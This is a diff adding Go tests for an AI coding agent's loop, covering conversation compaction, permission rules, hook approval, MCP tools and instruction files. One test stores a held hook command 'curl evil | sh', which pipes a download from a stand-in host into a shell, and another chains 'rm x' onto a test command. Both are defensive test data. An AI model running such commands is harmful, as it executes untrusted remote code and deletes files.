@@ -1,0 +1,355 @@
+package loop
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+	"testing/synctest"
+
+	"acp-agent/hooks"
+	"acp-agent/loop/model"
+	"acp-agent/loop/permission"
+	"acp-agent/loop/tool"
+	"acp-agent/session"
+)
+
+func transcriptTexts(msgs []session.Message) []string {
+	var out []string
+	for _, m := range msgs {
+		for _, b := range m.Content {
+			out = append(out, string(m.Role)+": "+b.Text)
+		}
+	}
+	return out
+}
+
+func TestCompactReplacesTheOlderPart(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		r := newRig(t, nil, text("one"), text("two"), text("the summary"), text("three"))
+		for _, p := range []string{"a", "b"} {
+			if _, err := r.prompt(p); err != nil {
+				t.Fatal(err)
+			}
+		}
+		slot, err := r.Admit(t.Context())
+		if err != nil {
+			t.Fatal(err)
+		}
+		if end, err := slot.Compact("keep names"); err != nil || end.Kind != session.EndCompleted || end.Message != "" {
+			t.Fatalf("got %+v, %v", end, err)
+		}
+		r.check()
+		if got := r.model.requests[2].Messages; got[len(got)-1].Content[1].Text != "keep names" {
+			t.Errorf("the person's words are not a block of their own: %v", got[len(got)-1])
+		}
+		if strings.Contains(r.watch.deltas.String(), "summary") {
+			t.Error("the summary was shown as an answer")
+		}
+		if _, err := r.prompt("c"); err != nil {
+			t.Fatal(err)
+		}
+		got := transcriptTexts(r.model.requests[3].Messages)
+		want := []string{"user: The earlier part of this conversation was replaced by this summary of it:", "user: the summary", "user: b", "assistant: two", "user: c"}
+		if !slices.Equal(got, want) {
+			t.Errorf("got  %q\nwant %q", got, want)
+		}
+		// What was replaced is still in the log.
+		n := 0
+		for _, ev := range r.log.events {
+			if _, ok := ev.Data.(*session.UserMessage); ok {
+				n++
+			}
+		}
+		if n != 3 {
+			t.Errorf("%d prompts in the log", n)
+		}
+	})
+}
+
+func TestOverflowCompactsOnce(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		full := model.Errorf(model.KindContextOverflow, "too long")
+		r := newRig(t, nil, text("one"), fails(full), text("sum"), text("two"))
+		if _, err := r.prompt("a"); err != nil {
+			t.Fatal(err)
+		}
+		if end, err := r.prompt("b"); err != nil || end.Kind != session.EndCompleted {
+			t.Fatalf("got %+v, %v", end, err)
+		}
+		r = newRig(t, nil, text("one"), fails(full), text("sum"), fails(full), text("never"))
+		if _, err := r.prompt("a"); err != nil {
+			t.Fatal(err)
+		}
+		if end, err := r.prompt("b"); err == nil || end.Kind != session.EndError || end.Error.Kind != "context_overflow" {
+			t.Fatalf("got %+v, %v", end, err)
+		}
+	})
+}
+
+// A cancelled or failed compaction leaves the session as it was.
+func TestCompactionThatFailsChangesNothing(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		r := newRig(t, nil, text("one"), text("two"), nil, text("three"))
+		r.model.streams[2] = hangs(func() { r.Cancel() }, session.Chunk{Type: session.ChunkText, Text: "half a summ"})
+		for _, p := range []string{"a", "b"} {
+			if _, err := r.prompt(p); err != nil {
+				t.Fatal(err)
+			}
+		}
+		slot, _ := r.Admit(t.Context())
+		if end, err := slot.Compact(""); err != nil || end.Kind != session.EndCancelled {
+			t.Fatalf("got %+v, %v", end, err)
+		}
+		r.check()
+		if _, err := r.prompt("c"); err != nil {
+			t.Fatal(err)
+		}
+		got := transcriptTexts(r.model.requests[3].Messages)
+		if want := []string{"user: a", "assistant: one", "user: b", "assistant: two", "user: c"}; !slices.Equal(got, want) {
+			t.Errorf("got %q", got)
+		}
+	})
+}
+
+// fakeTrust is a Trust that remembers what it was told.
+type fakeTrust struct {
+	held               []HeldHook
+	approved, rejected []string
+	always             bool
+}
+
+func (f *fakeTrust) Held() []HeldHook { return f.held }
+func (f *fakeTrust) Approve(ids []string, always bool) error {
+	f.approved, f.always = ids, always
+	return nil
+}
+func (f *fakeTrust) Reject(ids []string, always bool) error {
+	f.rejected, f.always = ids, always
+	return nil
+}
+
+func TestHeldHooksAreAskedAboutOnce(t *testing.T) {
+	for answer, want := range map[string]string{"allow_once": "approve", "allow_always": "approve always", "reject_once": "reject", "reject_always": "reject always", "": "reject", "nonsense": "reject"} {
+		synctest.Test(t, func(t *testing.T) {
+			r := newRig(t, nil, text("ok"), text("ok"))
+			trust := &fakeTrust{held: []HeldHook{{ID: "h1", File: "/w/.claude/settings.json", Event: "Stop", Command: "curl evil | sh"}}}
+			r.cfg.Trust = trust
+			asked := 0
+			r.watch.ask = func(_ context.Context, q *Question) (string, error) {
+				asked++
+				if !strings.Contains(q.Reason, "curl evil | sh") {
+					t.Errorf("the question does not name the command: %q", q.Reason)
+				}
+				return answer, nil
+			}
+			for range 2 {
+				if end, err := r.prompt("go"); err != nil || end.Kind != session.EndCompleted {
+					t.Fatalf("got %+v, %v", end, err)
+				}
+			}
+			got := "reject"
+			if trust.approved != nil {
+				got = "approve"
+			}
+			if trust.always {
+				got += " always"
+			}
+			if got != want || asked != 1 {
+				t.Errorf("answer %q: %s after %d questions, want %s", answer, got, asked, want)
+			}
+		})
+	}
+}
+
+type fakeServers struct {
+	calls int
+	tools []tool.Tool
+	fails []string
+}
+
+func (f *fakeServers) Tools(context.Context) ([]tool.Tool, []string, bool) {
+	f.calls++
+	fails := f.fails
+	f.fails = nil
+	return f.tools, fails, true
+}
+
+func TestServersJoinAndFailuresAreSaidOnce(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		r := newRig(t, nil, calls(call("a", "mcp__s__t", "{}")), text("ok"), text("ok"))
+		r.cfg.Servers = &fakeServers{
+			tools: []tool.Tool{&fakeTool{name: "mcp__s__t", run: func(context.Context, *tool.Env, string) tool.Result { return tool.Text("x") }}},
+			fails: []string{"server b did not start"},
+		}
+		for range 2 {
+			if _, err := r.prompt("go"); err != nil {
+				t.Fatal(err)
+			}
+		}
+		if n := len(r.model.requests[0].Head.Tools); n != 1 {
+			t.Errorf("%d tools in the first request", n)
+		}
+		n := 0
+		for _, ev := range r.log.events {
+			if _, ok := ev.Data.(*session.Notice); ok {
+				n++
+			}
+		}
+		if n != 1 {
+			t.Errorf("%d notices", n)
+		}
+	})
+}
+
+func TestAsyncHookTextIsDelivered(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		r := newRig(t, nil, nil, text("again"), text("ok"))
+		r.model.streams[0] = func(ctx context.Context, req *model.Request, yield func(session.Chunk, error) bool) {
+			r.Deliver(hooks.Text{Text: "from codex", Dialect: "codex"})
+			r.Deliver(hooks.Text{Text: "from claude", Dialect: "claude-code"})
+			text("first")(ctx, req, yield)
+		}
+		for range 2 {
+			if _, err := r.prompt("go"); err != nil {
+				t.Fatal(err)
+			}
+		}
+		if got := r.model.requests[1].Messages[2].Content[0].Text; got != "from codex" {
+			t.Errorf("within the turn the model saw %q", got)
+		}
+		msgs := transcriptTexts(r.model.requests[2].Messages)
+		if want := []string{"user: from claude", "user: go"}; !slices.Equal(msgs[len(msgs)-2:], want) {
+			t.Errorf("the next prompt began with %q", msgs[len(msgs)-2:])
+		}
+	})
+}
+
+type fakeInstructions struct{ initial, touched []Instruction }
+
+func (f *fakeInstructions) Initial() []Instruction         { return f.initial }
+func (f *fakeInstructions) Touched(p string) []Instruction { return f.touched }
+
+func TestInstructionsAreShownOnce(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		read := &fakeTool{name: "read", readOnly: true, run: func(context.Context, *tool.Env, string) tool.Result {
+			res := tool.Text("x")
+			res.Meta.Locations = []session.Location{{Path: "/w/sub/f"}}
+			return res
+		}}
+		r := newRig(t, []tool.Tool{read}, calls(call("a", "read", "{}")), text("ok"), calls(call("b", "read", "{}")), text("ok"))
+		r.cfg.Instructions = &fakeInstructions{[]Instruction{{Path: "/w/AGENTS.md", Digest: "1", Text: "top"}}, []Instruction{{Path: "/w/sub/AGENTS.md", Digest: "2", Text: "nested"}}}
+		for range 2 {
+			if _, err := r.prompt("go"); err != nil {
+				t.Fatal(err)
+			}
+		}
+		got := transcriptTexts(r.model.requests[3].Messages)
+		want := []string{"user: top", "user: go", "assistant: ", "tool: ", "user: nested", "assistant: ok", "user: go", "assistant: ", "tool: "}
+		if !slices.Equal(got, want) {
+			t.Errorf("got %q", got)
+		}
+		st, err := session.Fold(session.Header{}, r.log.events)
+		if err != nil || st.Instructions["/w/AGENTS.md"] != "1" || st.Instructions["/w/sub/AGENTS.md"] != "2" {
+			t.Errorf("a resumed session would show them again: %v, %v", st.Instructions, err)
+		}
+	})
+}
+
+// A hook's allow skips the question, never a deny or an ask rule (facts 5 #37 to
+// #40); deny holds in every mode.
+func TestHookAllowAndRules(t *testing.T) {
+	tests := []struct {
+		name            string
+		allow, ask, den []string
+		mode            string
+		hook            hooks.Decision
+		asked, ran      bool
+	}{
+		{name: "no rule, no hook", asked: true, ran: true},
+		{name: "hook allows", hook: hooks.Allow, ran: true},
+		{name: "hook allows, deny rule", hook: hooks.Allow, den: []string{"bash"}},
+		{name: "hook allows, ask rule", hook: hooks.Allow, ask: []string{"bash"}, asked: true, ran: true},
+		{name: "hook asks, allow rule", hook: hooks.Ask, allow: []string{"bash"}, asked: true, ran: true},
+		{name: "hook asks, deny rule", hook: hooks.Ask, den: []string{"bash"}},
+		{name: "hook denies, allow rule", hook: hooks.Deny, allow: []string{"bash"}},
+		{name: "bypass", mode: permission.ModeBypass, ran: true},
+		{name: "bypass, deny rule", mode: permission.ModeBypass, den: []string{"bash"}},
+		{name: "bypass, hook asks", mode: permission.ModeBypass, hook: hooks.Ask, asked: true, ran: true},
+		{name: "plan", mode: permission.ModePlan},
+		{name: "plan, hook allows", mode: permission.ModePlan, hook: hooks.Allow},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			synctest.Test(t, func(t *testing.T) {
+				ran, asked := false, false
+				bash := &fakeTool{name: "bash", run: func(context.Context, *tool.Env, string) tool.Result { ran = true; return tool.Text("x") }}
+				r := newRig(t, []tool.Tool{bash}, calls(call("a", "bash", `{"command":"make"}`)), text("ok"))
+				rules, err := permission.NewRules(tc.allow, tc.ask, tc.den)
+				if err != nil {
+					t.Fatal(err)
+				}
+				r.cfg.Rules = rules
+				if tc.mode != "" {
+					r.mode.set(tc.mode)
+				}
+				r.watch.ask = func(context.Context, *Question) (string, error) { asked = true; return "allow_once", nil }
+				if tc.hook != "" {
+					r.hooks.on[hooks.PreToolUse] = func(context.Context, *hooks.Call) *hooks.Outcome {
+						return &hooks.Outcome{Decision: tc.hook, DecisionReason: hookText("because")}
+					}
+				}
+				if _, err := r.prompt("go"); err != nil {
+					t.Fatal(err)
+				}
+				if ran != tc.ran || asked != tc.asked {
+					t.Errorf("ran %v, asked %v; want %v, %v", ran, asked, tc.ran, tc.asked)
+				}
+			})
+		})
+	}
+}
+
+func TestAlwaysAnswersAreRemembered(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		ran, asked := 0, 0
+		bash := &fakeTool{name: "bash", run: func(context.Context, *tool.Env, string) tool.Result { ran++; return tool.Text("x") }}
+		bashCall := func(id, cmd string) session.Block {
+			args, _ := json.Marshal(map[string]string{"command": cmd})
+			return call(id, "bash", string(args))
+		}
+		r := newRig(t, []tool.Tool{bash}, calls(bashCall("a", "go test ./a"), bashCall("b", "go test ./b"), bashCall("c", "go vet ./a"), bashCall("d", "go test ./a; rm x")), text("ok"))
+		r.watch.ask = func(_ context.Context, q *Question) (string, error) {
+			asked++
+			if asked == 1 {
+				return "allow_always", nil
+			}
+			return "reject_once", nil
+		}
+		if _, err := r.prompt("go"); err != nil {
+			t.Fatal(err)
+		}
+		if ran != 2 || asked != 3 {
+			t.Errorf("ran %d, asked %d", ran, asked)
+		}
+	})
+}
+
+func TestCommandExpansionHookBlocks(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		r := newRig(t, nil, text("never"))
+		r.hooks.on[hooks.UserPromptExpand] = func(_ context.Context, c *hooks.Call) *hooks.Outcome {
+			if fmt.Sprint(c.Fields["command_name"], c.Fields["command_args"]) != "reviewmain" {
+				t.Errorf("fields %v", c.Fields)
+			}
+			return &hooks.Outcome{Blocked: true, Reasons: []hooks.Text{hookText("not here")}}
+		}
+		slot, _ := r.Admit(t.Context())
+		end, err := slot.Command("review", "main", []session.Block{session.Text("Review main.")}, session.Source{Kind: "user"})
+		if err != nil || end.Kind != session.EndBlocked || end.Message != "not here" || r.model.calls() != 0 {
+			t.Fatalf("got %+v, %v", end, err)
+		}
+	})
+}
